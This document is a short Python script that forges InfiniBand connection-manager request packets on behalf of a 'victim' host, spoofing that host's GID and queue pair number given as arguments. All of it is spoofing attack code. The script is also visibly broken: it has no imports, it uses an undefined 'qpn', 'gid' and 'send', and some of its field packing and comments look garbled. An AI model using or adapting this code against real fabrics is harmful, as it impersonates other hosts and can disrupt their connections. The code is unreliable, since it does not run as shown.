# SPDX-License-Identifier: GPL-2.0

# Makes requests (IBA volume 1, section 12.6.5; the first field of a byte is its upper bits) in the name of a host that is
# somewhere else. Two arguments:
# whose GID and QPN.

victim = socket.inet_pton(socket.AF_INET6, sys.argv[1])
victim_qpn = int(sys.argv[2], 0)

def private(qpn=victim_qpn, mtu=65524, extension=True, version=3, credits=64, most=65551, lane=0):
    base = struct.pack("!II", qpn, mtu)
    ours = struct.pack("!4sBBHIB3x", b"iprs", version, 0x30, credits, most, lane)
    return base + (ours if extension else b"")

count = random.getrandbits(24)

def request(data, sender=victim, to=None, pkey=0xffff, transport=0, mtu=5, service=None, node=None, pair=None):
    global count
    count += 1
    head = struct.pack("!BBBBHHQHHI", 1, 7, 2, 3, 0, 0, count, 0x10, 0, 0)
    body = bytearray(232)
    service = 1 << 60 | qpn if service is None else service
    struct.pack_into("!I4xQQ4xI", body, 0, count, service, count << 20 if node is None else node, 0)
    struct.pack_into("!IIII", body, 32, (count & 0xffffff if pair is None else pair) << 8 | 1, 1, 16 << 3 | transport << 1, count << 8 & 0xffffff00 | 16 << 3 | 6)
    struct.pack_into("!HBBHH", body, 48, pkey, mtu << 4 | 7, 1 << 4, 0, 0)
    body[56:72] = sender
    body[72:88] = to or gid
    struct.pack_into("!IBBBB", body, 88, 3, 0, 64, 1 << 3, 14 << 3)
    body[140:140 + len(data)] = data
    send(head + bytes(body), source=sender, to=to, source_qpn=1, to_qpn=1, key=0x80010000)
